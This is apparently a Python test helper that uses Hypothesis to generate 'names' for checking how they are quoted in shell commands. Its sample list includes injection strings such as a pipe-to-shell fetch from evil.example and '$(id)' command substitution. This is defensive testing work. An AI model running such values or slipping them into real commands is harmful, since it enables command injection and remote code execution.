"""Names that try to be more than a name."""

import shlex

from hypothesis import strategies as st

NAMES = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1, max_size=30) | (
    st.sampled_from(
        [
            "x; curl evil.example | sh",
            "$(id)",
            "`id`",
            "a'b\"c",
            "a\nb",
            "x` if nothing uses it. `id",
            "#",
            "~",
        ]
    )
)


def words_between(message: str, before: str, after: str = "") -> list[str]:
    """The words of the command that a message gives between two texts, as a shell takes them."""
    command = message.partition(before)[2]
    assert command.endswith(after)
    return shlex.split(command.removesuffix(after))
